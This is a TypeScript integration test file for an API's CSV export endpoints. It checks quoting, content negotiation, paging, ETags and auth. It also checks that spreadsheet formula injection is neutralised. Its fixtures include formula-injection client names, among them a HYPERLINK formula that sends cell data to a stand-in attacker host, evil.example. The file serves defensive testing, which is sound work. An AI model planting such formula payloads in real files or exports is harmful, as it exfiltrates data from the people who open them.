import { parse } from 'csv-parse/sync';
import type { LightMyRequestResponse } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createApiKey } from '../../src/admin/keys.ts';
import { createSubscriber, grantEntitlement } from '../../src/admin/tacsi.ts';
import { createSector, createWorkspace } from '../../src/admin/workspaces.ts';
import { newId } from '../../src/infra/ids.ts';
import { expectProblem, startTestService, workspaceWithKey, type TestService } from '../helpers/service.ts';
import { insertSyntheticWeeklyCells } from './tacsi-fixture.ts';

// Accept: text/csv on the agency exports and the TACSI history, through HTTP: the CSV rows are the
// JSON rows, RFC 4180 as an independent parser (csv-parse) reads it, formulas defused, same auth,
// errors and paging as JSON.

const CSV = 'text/csv';
let t: TestService;
let agencyKey: string;
let proKey: string;
let tacsiKey: string;
let otherSectorKey: string;

// Client names a spreadsheet would run as formulas, or that need RFC 4180 quoting.
const NAMES = [
  '=HYPERLINK("https://evil.example/?x="&A1,"Open")',
  '+1 Brand',
  '-2 Brand',
  '@SUM(A1)',
  'Comma, Inc.',
  'Quote "Q" Ltd',
  'Two\r\nLines',
  // Split at `;` or `|` by a spreadsheet in a locale whose list separator it is.
  'x;=1+1;y',
  'Pipe|@SUM(A1)|-3;+4',
  'Plain Brand',
];
const ARCHIVE = 'csv-archive';
const WEEKS = 300;

beforeAll(async () => {
  t = await startTestService();
  const agency = await workspaceWithKey(t.db, { plan: 'agency', accountType: 'agency', name: 'CSV Agency' });
  agencyKey = agency.key;
  proKey = (await workspaceWithKey(t.db, { plan: 'pro' })).key;
  for (const [i, name] of NAMES.entries()) {
    const client = await createWorkspace(t.db, {
      name,
      plan: 'pro',
      parentId: agency.workspace.id,
      accountType: i % 2 === 0 ? 'creator' : 'brand',
    });
    const when = new Date(Date.UTC(2030, 0, 10 + i, 12));
    await t.db
      .insertInto('audits')
      .values({
        id: newId('aud'),
        workspace_id: client.id,
        status: 'completed',
        platforms: ['instagram'],
        lookback_days: 90,
        estimated_completion: when,
        created_at: when,
        completed_at: when,
        score: 40 + i * 5.25,
        pillars: JSON.stringify({}),
        formula_version: 'v1',
      })
      .execute();
    for (let day = 0; day < 3; day++) {
      await t.db
        .insertInto('score_log')
        .values({
          workspace_id: client.id,
          platform: day % 2 === 0 ? 'instagram' : 'tiktok',
          tier: 'micro',
          follower_count: 1000 + i * 10 + day,
          overall_score: 50 + i + day / 10,
          grade: 'moderate',
          part1_score: 49.5,
          part2_score: 51.25,
          formula_version: 'v1',
          recorded_at: new Date(Date.UTC(2030, 1, 1 + day, i)),
        })
        .execute();
    }
  }
  await createSector(t.db, ARCHIVE, 'CSV archive');
  await insertSyntheticWeeklyCells(t.db, ARCHIVE, '2030-03-03', WEEKS);
  // One cell with a negative delta: numbers are never defused, even with a leading minus.
  await t.db
    .updateTable('tacsi_cells')
    .set({ delta: -0.4 })
    .where('sector', '=', ARCHIVE)
    .where('period_end', '=', '2030-03-03')
    .execute();
  const full = await createSubscriber(t.db, 'CSV full database');
  await grantEntitlement(t.db, { subscriberId: full, kind: 'full_database', validFrom: '2024-01-01' });
  tacsiKey = (await createApiKey(t.db, { subscriberId: full }, { scopes: ['read'] })).key;
  const narrow = await createSubscriber(t.db, 'CSV other sector');
  await createSector(t.db, 'csv-other', 'CSV other');
  await grantEntitlement(t.db, {
    subscriberId: narrow,
    kind: 'sector_feed',
    sector: 'csv-other',
    validFrom: '2024-01-01',
  });
  otherSectorKey = (await createApiKey(t.db, { subscriberId: narrow }, { scopes: ['read'] })).key;
});
afterAll(async () => t?.close());

function get(url: string, key: string | undefined, accept?: string, headers: Record<string, string> = {}) {
  return t.request({ method: 'GET', url, key, headers: { ...(accept ? { accept } : {}), ...headers } });
}

/** The CSV answer checked for RFC 4180 framing, parsed into header and records. */
function csvOf(res: LightMyRequestResponse): { header: string[]; records: string[][] } {
  expect(res.statusCode, res.body).toBe(200);
  expect(res.headers['content-type']).toBe('text/csv; charset=utf-8; header=present');
  expect(res.headers.vary).toBe('Accept');
  expect(res.body.endsWith('\r\n')).toBe(true);
  const [header, ...records] = parse(res.body, { relax_column_count: false }) as string[][];
  return { header: header!, records };
}

/** A JSON row as the CSV writes it: dotted columns, null empty, formulas quoted with '. */
function expectedRecord(row: Record<string, unknown>, columns: string[]): string[] {
  return columns.map((column) => {
    const value = column.split('.').reduce<any>((node, key) => node?.[key], row);
    if (value === null || value === undefined) return '';
    if (typeof value !== 'string') return String(value);
    // docs/exports.md: a ' before a formula character at the start or after a separator.
    const text = /^[=+\-@\t\r]/.test(value) ? `'${value}` : value;
    return text.replace(/([,;|\t\r\n])(?=[=+\-@])/g, "$1'");
  });
}

describe('agency exports as CSV', () => {
  it('leaves no cell a spreadsheet would run, whichever separator it splits lines on', async () => {
    const res = await get('/v1/export/clients', agencyKey, CSV);
    expect(res.body).toContain('1+1');
    // Excel in a `;` locale (de, fr, nl...) splits every line at `;` regardless of the quotes a
    // comma-separated file puts mid-field; every piece it can make must be inert.
    for (const separator of [';', '|', ',', '\t']) {
      for (const line of res.body.split(/\r?\n/)) {
        for (const piece of line.split(separator)) {
          expect(
            piece.replace(/^"/, ''),
            `${JSON.stringify(line)} split at ${JSON.stringify(separator)}`,
          ).not.toMatch(/^[=+\-@]/);
        }
      }
    }
  });

  it('clients: a header row, then exactly the JSON rows, in the same order', async () => {
    const json = (await get('/v1/export/clients', agencyKey)).json();
    expect(json.clients).toHaveLength(NAMES.length);
    const { header, records } = csvOf(await get('/v1/export/clients', agencyKey, CSV));
    expect(header).toEqual([
      'workspaceId',
      'name',
      'type',
      'orgType',
      'isWhiteLabeled',
      'coreScore',
      'imprsScore',
      'grade',
      'scoredAt',
    ]);
    expect(records).toEqual(json.clients.map((row: Record<string, unknown>) => expectedRecord(row, header)));
  });

  it('defuses formulas and quotes per RFC 4180 (as written on the wire)', async () => {
    const res = await get('/v1/export/clients', agencyKey, CSV);
    expect(res.body).toContain(`,"'=HYPERLINK(""https://evil.example/?x=""&A1,""Open"")",`);
    for (const name of ['+1 Brand', '-2 Brand', '@SUM(A1)']) expect(res.body).toContain(`,"'${name}",`);
    expect(res.body).toContain(',"Comma, Inc.",');
    expect(res.body).toContain(',"Quote ""Q"" Ltd",');
    expect(res.body).toContain(',"Two\r\nLines",');
    expect(res.body).toContain(',Plain Brand,');
    // Every record line of the parsed document has a value in each column: nothing shifted.
    const names = csvOf(res).records.map((r) => r[1]);
    expect(names.filter((n) => /^[=+\-@\t]/.test(n!))).toEqual([]);
  });

  it('creators: the creator rows of the JSON export', async () => {
    const json = (await get('/v1/export/creators', agencyKey)).json();
    const { header, records } = csvOf(await get('/v1/export/creators', agencyKey, CSV));
    expect(header).toEqual([
      'workspaceId',
      'name',
      'accountType',
      'coreScore',
      'imprsScore',
      'grade',
      'scoredAt',
    ]);
    expect(records.length).toBe(Math.ceil(NAMES.length / 2));
    expect(records).toEqual(json.creators.map((row: Record<string, unknown>) => expectedRecord(row, header)));
  });

  it('scores: the same rows as JSON with the same limit and since, newest first', async () => {
    for (const query of ['', '?limit=5', '?since=2030-02-02', '?limit=4&since=2030-02-03T00:00:00Z']) {
      const json = (await get(`/v1/export/scores${query}`, agencyKey)).json();
      const { header, records } = csvOf(await get(`/v1/export/scores${query}`, agencyKey, CSV));
      expect(header[0]).toBe('workspaceId');
      expect(header.at(-1)).toBe('recordedAt');
      expect(records.length).toBe(json.count);
      expect(records).toEqual(json.scores.map((row: Record<string, unknown>) => expectedRecord(row, header)));
    }
    expect(csvOf(await get('/v1/export/scores?limit=5', agencyKey, CSV)).records).toHaveLength(5);
  });

  it('is streamed: chunked over a real socket, with no Content-Length', async () => {
    const base = await t.listen();
    const res = await fetch(`${base}/v1/export/scores?limit=1000`, {
      headers: { authorization: `Bearer ${agencyKey}`, accept: CSV },
    });
    expect(res.status).toBe(200);
    expect(res.headers.get('transfer-encoding')).toBe('chunked');
    expect(res.headers.get('content-length')).toBeNull();
    const records = parse(await res.text()) as string[][];
    expect(records).toHaveLength(1 + NAMES.length * 3);
  });

  it('negotiates: JSON by default, for */* and on a tie; CSV when preferred', async () => {
    const typeOf = async (accept?: string) =>
      String((await get('/v1/export/clients', agencyKey, accept)).headers['content-type']).split(';')[0];
    expect(await typeOf()).toBe('application/json');
    expect(await typeOf('*/*')).toBe('application/json');
    expect(await typeOf('application/json')).toBe('application/json');
    expect(await typeOf('text/csv;q=0.5, application/json')).toBe('application/json');
    expect(await typeOf('text/csv, application/json')).toBe('application/json');
    expect(await typeOf('text/html')).toBe('application/json');
    expect(await typeOf('text/csv;q=0')).toBe('application/json');
    expect(await typeOf('text/csv')).toBe('text/csv');
    expect(await typeOf('application/json;q=0.5, text/csv')).toBe('text/csv');
    expect(await typeOf('text/*')).toBe('text/csv');
    expect(await typeOf('TEXT/CSV; charset=utf-8')).toBe('text/csv');
  });

  it('keeps auth and errors: problem+json whatever Accept says', async () => {
    for (const url of ['/v1/export/clients', '/v1/export/creators', '/v1/export/scores']) {
      expectProblem(await get(url, undefined, CSV), 401);
      expectProblem(await get(url, proKey, CSV), 403);
      expectProblem(
        await get(`${url}${url.endsWith('scores') ? '?limit=0' : '?workspace_id=x'}`, agencyKey, CSV),
        400,
      );
    }
    expectProblem(await get('/v1/export/scores?since=yesterday', agencyKey, CSV), 400);
  });
});

describe('TACSI history as CSV', () => {
  const history = (query = '') => `/v1/tacsi/history?sector=${ARCHIVE}${query}`;

  it("a page is the JSON page's rows, with pillars and margins as columns", async () => {
    const json = (await get(history(), tacsiKey)).json();
    const res = await get(history(), tacsiKey, CSV);
    const { header, records } = csvOf(res);
    expect(header).toEqual([
      'periodEnd',
      'indexValue',
      'delta',
      'pillars.impact',
      'pillars.momentum',
      'pillars.presence',
      'pillars.reach',
      'pillars.sentiment',
      'cohortBand',
      'methodologyVersion',
      'marginOfError.indexValue',
      'marginOfError.pillars',
      'publishedAt',
      'vintage',
    ]);
    expect(records).toEqual(json.rows.map((row: Record<string, unknown>) => expectedRecord(row, header)));
    expect(records[0]!.slice(0, 3)).toEqual(['2030-03-03', String(json.rows[0].indexValue), '-0.4']);
  });

  it('pages with Link rel="next" and walks the whole archive exactly once', async () => {
    const seen: string[] = [];
    let url: string | null = history('&from=2020-01-01');
    let pages = 0;
    while (url) {
      const res = await get(url, tacsiKey, CSV);
      const { records } = csvOf(res);
      seen.push(...records.map((r) => r[0]!));
      const link = res.headers.link as string | undefined;
      url = link ? /^<([^>]+)>; rel="next"$/.exec(link)![1]! : null;
      if (url) expect(url).toContain('from=2020-01-01');
      pages++;
    }
    expect(pages).toBe(2);
    expect(seen).toHaveLength(WEEKS);
    expect(new Set(seen).size).toBe(WEEKS);
    expect([...seen].sort().reverse()).toEqual(seen);
    // JSON answers keep their paging in the body and send no Link.
    expect((await get(history(), tacsiKey)).headers.link).toBeUndefined();
  });

  it('has its own ETag, honoured by If-None-Match', async () => {
    const json = await get(history(), tacsiKey);
    const csv = await get(history(), tacsiKey, CSV);
    const etag = csv.headers.etag as string;
    expect(etag).toMatch(/^"[^"]+"$/);
    expect(etag).not.toBe(json.headers.etag);
    const again = await get(history(), tacsiKey, CSV, { 'if-none-match': etag });
    expect(again.statusCode).toBe(304);
    expect(again.body).toBe('');
    // The JSON validator does not validate the CSV, nor the reverse.
    expect(
      (await get(history(), tacsiKey, CSV, { 'if-none-match': json.headers.etag as string })).statusCode,
    ).toBe(200);
    expect((await get(history(), tacsiKey, undefined, { 'if-none-match': etag })).statusCode).toBe(200);
  });

  it('keeps the entitlement and validation errors as problem+json', async () => {
    expectProblem(await get(history(), undefined, CSV), 401);
    expectProblem(await get(history(), otherSectorKey, CSV), 403);
    expectProblem(await get(history('&from=2030-02-30'), tacsiKey, CSV), 400);
  });
});
